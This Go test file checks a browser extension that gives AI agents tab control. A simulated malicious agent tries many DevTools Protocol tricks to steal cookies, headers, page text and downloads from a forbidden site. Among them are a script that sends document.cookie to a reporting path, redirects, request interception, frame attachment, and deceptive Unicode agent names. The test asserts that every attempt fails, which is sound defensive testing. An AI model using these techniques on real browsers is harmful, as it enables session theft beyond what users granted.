package extension_test

import (
	"encoding/json"
	"flag"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
)

// every makes TestAttackSites try all attacks; else it tries a share of those that are alike.
var every = flag.Bool("attack", false, "try every attack")

// bank marks everything on a site that no agent may use.
const bank = "of-the-bank"

// bankOf serves that site, one that agents may use, and a path to which scripts
// report where they run.
func bankOf(t *testing.T) (theirs, own string, told chan string) {
	t.Helper()
	told = make(chan string, 100)
	mux := http.NewServeMux()
	page := func(w http.ResponseWriter, body string) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html>"+body)
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { page(w, "<title>mine</title><p id=p>mine") })
	mux.HandleFunc("/told", func(_ http.ResponseWriter, r *http.Request) { told <- r.URL.RawQuery })
	mux.HandleFunc("/to", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Query().Get("url"), http.StatusFound)
	})
	mux.HandleFunc("/meta", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<meta http-equiv=refresh content="0;url=`+r.URL.Query().Get("url")+`">`)
	})
	cookie := func(w http.ResponseWriter) {
		w.Header().Add("Set-Cookie", "fresh=cookie-"+bank+"; HttpOnly; Path=/")
		w.Header().Add("Set-Cookie", "third=cookie-"+bank+"; HttpOnly; Path=/; SameSite=None; Secure")
		w.Header().Set("X-Token", "header-"+bank)
	}
	mux.HandleFunc("/bank/", func(w http.ResponseWriter, r *http.Request) {
		cookie(w)
		page(w, "<title>title-"+bank+"</title><script>console.log('console-"+bank+"')</script><p>text-"+bank+"<script>fetch('/bank/image?"+bank+"')</script>")
	})
	mux.HandleFunc("/bank/redirects", func(w http.ResponseWriter, r *http.Request) {
		cookie(w)
		http.Redirect(w, r, "/bank/?token-"+bank, http.StatusFound)
	})
	mux.HandleFunc("/bank/image", func(w http.ResponseWriter, _ *http.Request) {
		cookie(w)
		w.Header().Del("X-Token") // what a page fetches is the page's
		w.Header().Set("Content-Type", "image/png")
	})
	mux.HandleFunc("/bank/empty", func(w http.ResponseWriter, _ *http.Request) {
		page(w, "<script>onload = () => setTimeout(() => location = 'about:blank')</script>")
	})
	mux.HandleFunc("/bank/blob", func(w http.ResponseWriter, _ *http.Request) {
		page(w, "<script>location = URL.createObjectURL(new Blob(['<p>text-"+bank+"'], { type: 'text/html' }))</script>")
	})
	mux.HandleFunc("/bank/file", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename="file-`+bank+`.txt"`)
		fmt.Fprint(w, "download-"+bank)
	})
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	_, port, err := net.SplitHostPort(server.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	return "http://bank.localhost:" + port + "/bank/", "http://one.localhost:" + port + "/", told
}

// thief is an agent that has a tab on a site that it may use, and any relay it likes.
type thief struct {
	*fakeRelay
	theirs, own string
	tab         string
}

// try sends a command to its tab; what is answered counts as told.
func (x *thief) try(method string, with args) error {
	x.t.Helper()
	raw, err := x.ask("forwardCDPCommand", args{"id": x.tab, "method": method, "params": with})
	x.record(event{Method: "answer", Params: params{Method: method, Params: raw}})
	return err
}

func (x *thief) script(source string) {
	x.t.Helper()
	x.try("Runtime.evaluate", args{"expression": source, "awaitPromise": true, "returnByValue": true, "userGesture": true})
}

// home leads its tab back to where it may be.
func (x *thief) home() {
	x.t.Helper()
	for late := time.After(patience); ; {
		x.do("leaveTab", args{"id": x.tab}, nil)
		_, err := x.ask("attachTab", args{"id": x.tab})
		if err == nil {
			err = x.try("Page.enable", nil)
		}
		if err == nil {
			break
		}
		select {
		case <-late:
			x.t.Fatal(err)
		default: // it was on its way elsewhere
		}
	}
	mark := x.mark()
	x.cdp(x.tab, "Page.navigate", args{"url": x.own})
	x.cdpEvent(mark, x.tab, "Page.loadEventFired")
	for _, domain := range []string{"Network", "Page", "Runtime", "Log", "Debugger", "CSS", "DOM", "Fetch", "Audits"} {
		x.try(domain+".disable", nil)
	}
}

// told returns what of the bank it was told since a mark.
func (x *thief) told(mark int) string {
	for _, e := range x.since(mark) {
		said, _ := json.Marshal(e)
		if at := strings.Index(string(said), bank); at >= 0 {
			return fmt.Sprintf("%s %s …%s", e.Method, e.Params.Method, said[max(0, at-80):at+len(bank)])
		}
	}
	return ""
}

// TestAttackSites attacks the extension itself, for what nobody allowed, with a relay
// that asks and hears whatever it likes. No attack gets in.
func TestAttackSites(t *testing.T) {
	r := newFakeRelay(t)
	theirs, own, told := bankOf(t)
	c := launch(t, r, "asks")
	r.await(0, "hello", nil)
	person := c.panel()
	c.cdp("", "Storage.setCookies", args{"cookies": []any{
		args{"name": "lax", "value": "cookie-" + bank, "url": theirs, "httpOnly": true, "sameSite": "Lax"},
		args{"name": "none", "value": "cookie-" + bank, "url": theirs, "httpOnly": true, "secure": true, "sameSite": "None"},
	}})
	_, err := r.ask("createTab", args{"url": own})
	refused(t, err, -32062, "")
	person.answer(siteOf(t, own), "always")
	for _, name := range []string{"\u202eevil\u2066", "two\nlines\u2028more", strings.Repeat("long ", 100), "ta\U000e0041gs \u200b\ufeff"} {
		site := fmt.Sprintf("http://named%d.example", len(name))
		_, err := r.ask("createTab", args{"url": site + "/", "agent": name})
		refused(t, err, -32062, "")
		person.question(site)
		var shown string
		c.eval(person.session, fmt.Sprintf("until(v => true).then(v => v.questions.find(q => q.site === %q).agent)", site), &shown)
		if len(shown) > 60 || strings.ContainsFunc(shown, func(r rune) bool { return r != ' ' && !unicode.IsPrint(r) }) {
			t.Errorf("the person reads the name %q", shown)
		}
	}
	x := &thief{r, theirs, own, string(r.create(own).ID)}
	tried := 0
	attack := func(name string, try func(mark int)) {
		t.Helper()
		tried++
		mark := r.mark()
		try(mark)
		if got := x.told(mark); got != "" {
			t.Errorf("%s: %s", name, got)
		}
		x.home()
	}
	withheld := func(mark int) {
		t.Helper()
		r.await(mark, "tabDetached", func(p params) bool { return string(p.ID) == x.tab })
	}

	// The tab comes to the bank while the client listens.
	listens := map[string]func(){
		"nothing":          func() {},
		"Network":          func() { x.try("Network.enable", nil) },
		"Network and Page": func() { x.try("Network.enable", nil); x.try("Page.enable", nil) },
		"Page":             func() { x.try("Page.enable", nil); x.try("Page.setLifecycleEventsEnabled", args{"enabled": true}) },
		"Runtime":          func() { x.try("Runtime.enable", nil); x.try("Runtime.addBinding", args{"name": "tell"}) },
		"Log and Audits":   func() { x.try("Log.enable", nil); x.try("Audits.enable", nil) },
		"Debugger":         func() { x.try("Debugger.enable", nil) },
		"DOM and CSS":      func() { x.try("DOM.enable", nil); x.try("CSS.enable", nil) },
		"Fetch":            func() { x.try("Fetch.enable", args{"patterns": []any{args{"urlPattern": theirs + "*"}}}) },
		"Fetch of answers": func() {
			x.try("Fetch.enable", args{"patterns": []any{args{"urlPattern": theirs + "*", "requestStage": "Response"}}})
		},
		"interception": func() {
			x.try("Network.setRequestInterception", args{"patterns": []any{args{"urlPattern": "*", "interceptionStage": "HeadersReceived"}}})
		},
		"auto attachment": func() {
			x.try("Target.setAutoAttach", args{"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true, "filter": []any{args{}}})
		},
		"script in new documents": func() {
			x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": "const tell = () => new Image().src = '" + own + "told?' + document.title + document.cookie; addEventListener('DOMContentLoaded', tell)"})
		},
	}
	ways := map[string]string{
		"location": "void (location = URL)", "replace": "void location.replace(URL)", "a link": "void Object.assign(document.createElement('a'), { href: URL }).click()",
		"a form":     "(() => { const f = document.createElement('form'); f.action = URL; f.method = 'post'; document.body.append(f); f.submit() })()",
		"a redirect": "void (location = '/to?url=' + URL)", "redirects": "void (location = '/to?url=' + URL + 'redirects')", "their redirect": "void (location = URL + 'redirects')",
		"open": "void open(URL, '_self')", "meta refresh": "void (location = '/meta?url=' + URL)", "the opened page": "void (globalThis.w = open('/', 'w'), w.opener.location = URL)",
	}
	n := 0
	for _, listening := range slices.Sorted(maps.Keys(listens)) {
		for _, way := range slices.Sorted(maps.Keys(ways)) {
			if n++; !*every && n%19 != 0 && !(listening == "Network" && way == "redirects") && !(listening == "script in new documents" && way == "location") {
				continue
			}
			attack(way+" with "+listening, func(mark int) {
				listens[listening]()
				x.script(strings.ReplaceAll(ways[way], "URL", "'"+theirs+"'"))
				withheld(mark)
			})
		}
	}
	image := "new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = '" + theirs + "image?' + Math.random() })"
	for name, try := range map[string]func(mark int){
		"cookies of an image": func(mark int) {
			x.try("Network.enable", nil)
			x.script(image)
			r.cdpEvent(mark, x.tab, "Network.requestWillBeSentExtraInfo")
			r.cdpEvent(mark, x.tab, "Network.responseReceivedExtraInfo")
		},
		"cookies of a request that is held back": func(mark int) {
			x.try("Fetch.enable", args{"patterns": []any{args{"urlPattern": theirs + "*"}}})
			x.script("void " + image)
			r.cdpEvent(mark, x.tab, "Fetch.requestPaused")
		},
		"cookies of an answer that is held back": func(mark int) {
			x.try("Fetch.enable", args{"patterns": []any{args{"urlPattern": theirs + "*", "requestStage": "Response"}}})
			x.script("void " + image)
			r.cdpEvent(mark, x.tab, "Fetch.requestPaused")
		},
		"cookies of a frame": func(mark int) {
			x.try("Target.setAutoAttach", args{"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true})
			x.script("new Promise(done => { const f = document.createElement('iframe'); f.onload = done; f.src = '" + theirs + "image'; document.body.append(f) })")
			var child struct{ SessionID string }
			decode(t, r.cdpEvent(mark, x.tab, "Target.attachedToTarget").Params, &child)
			for _, method := range []string{"Network.getCookies", "Storage.getCookies", "Network.getAllCookies"} {
				raw, _ := r.ask("forwardCDPCommand", args{"id": x.tab, "sessionId": child.SessionID, "method": method})
				r.record(event{Method: "answer", Params: params{Method: method, Params: raw}})
			}
		},
		"cookies of addresses that are none": func(int) {
			for _, urls := range []any{nil, []any{}, []any{""}, []any{nil}, "", []any{theirs + "x"}, []any{[]any{theirs}}, []any{"blob:" + theirs}, []any{"//bank.localhost"}, []any{"http://localhost"}} {
				for _, method := range []string{"Network.getCookies", "Network.getAllCookies", "Storage.getCookies"} {
					x.try(method, args{"urls": urls})
				}
			}
		},
		"the history of the tab": func(mark int) {
			session := c.attach(x.tab)
			c.cdp(session, "Page.navigate", args{"url": theirs + "?" + bank})
			withheld(mark)
			x.home()
			x.try("Page.getNavigationHistory", nil)
		},
		"another tab, by its id": func(int) {
			c.page(theirs + "?" + bank)
			for _, id := range c.targets(func(t target) bool { return strings.HasPrefix(t.URL, theirs) }) {
				for _, method := range []string{"Target.getTargetInfo", "Target.attachToTarget", "Page.getResourceTree", "Page.createIsolatedWorld", "Page.setDocumentContent"} {
					x.try(method, args{"targetId": id.TargetID, "frameId": id.TargetID})
				}
			}
		},
		"a download": func(int) {
			x.try("Page.enable", nil)
			x.script("void (location = '" + theirs + "file')")
			person.question(siteOf(t, theirs))
		},
		"a download by a link": func(int) {
			x.try("Page.enable", nil)
			x.script("void Object.assign(document.createElement('a'), { href: '" + theirs + "file', download: '' }).click()")
			person.question(siteOf(t, theirs))
		},
		"the empty page that they leave": func(mark int) {
			c.eval(person.session, `globalThis.empty = new Promise(done => chrome.webNavigation.onCommitted.addListener(
				({ url, frameId }) => frameId === 0 && url === "about:blank" && done(1))), 1`, nil)
			x.script("void (location = '" + theirs + "empty')")
			withheld(mark)
			c.eval(person.session, "globalThis.empty", nil)
			_, err := r.ask("attachTab", args{"id": x.tab})
			refused(t, err, -32062, siteOf(t, theirs))
		},
		"a blob of theirs": func(mark int) {
			x.script("void (location = '" + theirs + "blob')")
			withheld(mark)
			x.script("document.body.innerText")
			_, err := r.ask("attachTab", args{"id": x.tab})
			refused(t, err, -32062, siteOf(t, theirs))
		},
	} {
		attack(name, try)
	}
	x.try("Page.enable", nil)
	x.script("void (location = '" + theirs + "file')")
	person.answer(siteOf(t, theirs), "no")
	for name, first := range map[string]string{"a frame of who was refused": theirs, "a frame that goes to who was refused": strings.Replace(own, "one.", "two.", 1)} {
		attack(name, func(mark int) {
			x.try("Target.setAutoAttach", args{"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true})
			x.script("void (globalThis.f = document.createElement('iframe'), globalThis.loads = 0, f.onload = () => { loads++; globalThis.look?.() }, f.src = '" + first + "', document.body.append(f))")
			loaded := func(n int) {
				x.script(fmt.Sprintf("new Promise(done => { globalThis.look = () => loads >= %d && done(); look() })", n))
			}
			var child struct{ SessionID string }
			if first != theirs {
				decode(t, r.cdpEvent(mark, x.tab, "Target.attachedToTarget").Params, &child)
				r.ask("forwardCDPCommand", args{"id": x.tab, "sessionId": child.SessionID, "method": "Runtime.runIfWaitingForDebugger"})
				loaded(1)
				x.script("void (f.src = '" + theirs + "')")
				loaded(2)
			} else {
				loaded(1)
			}
			raw, err := r.ask("forwardCDPCommand", args{"id": x.tab, "sessionId": child.SessionID, "method": "Runtime.evaluate", "params": args{"expression": "document.body?.innerText"}})
			if first != theirs && err == nil {
				t.Errorf("%s: it answers %s", name, raw)
			}
		})
	}
	// A worker that was started anew knows as well whose downloads agents may not touch.
	mark := r.mark()
	c.killWorker()
	r.await(mark, "hello", nil)
	var downloads []int
	c.eval(person.session, `chrome.downloads.search({}).then(all => all.map(({ id }) => id))`, &downloads)
	if len(downloads) == 0 {
		t.Error("nothing was downloaded")
	}
	for _, id := range downloads {
		for _, method := range []string{"cancelDownload", "deleteDownload"} {
			_, err := r.ask(method, args{"id": id})
			refused(t, err, -32000, "no such download")
		}
	}
	t.Logf("%d attacks tried", tried)
	select {
	case got := <-told:
		t.Errorf("a script ran at %s", got)
	default:
	}
}
